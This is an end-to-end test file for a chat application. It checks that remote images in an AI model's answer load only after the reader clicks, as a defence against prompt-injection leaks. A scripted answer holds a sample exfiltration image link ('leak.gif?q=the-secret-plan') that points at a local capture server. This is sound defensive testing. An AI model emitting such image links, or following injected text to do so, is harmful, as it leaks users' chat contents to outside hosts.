// Remote images in a model's answer are not fetched until the reader asks: a prompt injection could
// otherwise leak chat contents through an image URL the moment the answer renders. The scripted model
// answers with a markdown image pointing at a capture server on loopback; the capture server must see
// no request (live, and after a reload) until "Load image from <host>" is clicked.
import http from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "@playwright/test";
import { answer, newChat, send } from "./helpers";
import { inOwnTeam } from "./own-team";
import { setUpstreamFixtures } from "./upstream-fixtures";

test.use({ storageState: inOwnTeam });

const UPSTREAM = `http://127.0.0.1:${Number(process.env.E2E_UPSTREAM_PORT || 4011)}`;

const requests: string[] = [];
const capture = http.createServer((req, res) => {
  requests.push(req.url ?? "");
  res.writeHead(200, { "content-type": "image/gif" });
  res.end(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"));
});
let host = "";

/** Puts `first` before the file fixtures (the catch-all in chat.json would answer otherwise). */
const setFixtures = (first: object[]) => setUpstreamFixtures(UPSTREAM, first);

test.beforeAll(async () => {
  await new Promise<void>((resolve) => capture.listen(0, "127.0.0.1", resolve));
  host = `127.0.0.1:${(capture.address() as AddressInfo).port}`;
  await setFixtures([
    {
      match: { userMessage: "Show me the chart" },
      response: { content: `Here is the chart:\n\n![chart](http://${host}/leak.gif?q=the-secret-plan)\n\nThat is all.` },
    },
  ]);
});

test.afterAll(async () => {
  await setFixtures([]);
  await new Promise<void>((resolve) => capture.close(() => resolve()));
});

test("a remote image in an answer loads only after the reader clicks", async ({ page }) => {
  await newChat(page);
  await send(page, "Show me the chart");
  await expect(answer(page)).toContainText("That is all.");
  await expect(page.getByRole("button", { name: "Send", exact: true })).toBeVisible(); // the answer is complete
  const load = answer(page).getByRole("button", { name: `Load image from ${host}` });
  await expect(load).toBeVisible();
  await expect(answer(page)).toContainText(`from ${host}, not loaded`);
  await expect(answer(page).locator("img")).toHaveCount(0);

  await page.reload(); // the stored answer, rendered on the server and hydrated
  await expect(load).toBeVisible();
  await expect(answer(page).locator("img")).toHaveCount(0);
  expect(requests).toEqual([]);

  await load.click();
  await expect(answer(page).locator(`img[src="http://${host}/leak.gif?q=the-secret-plan"]`)).toHaveCount(1);
});
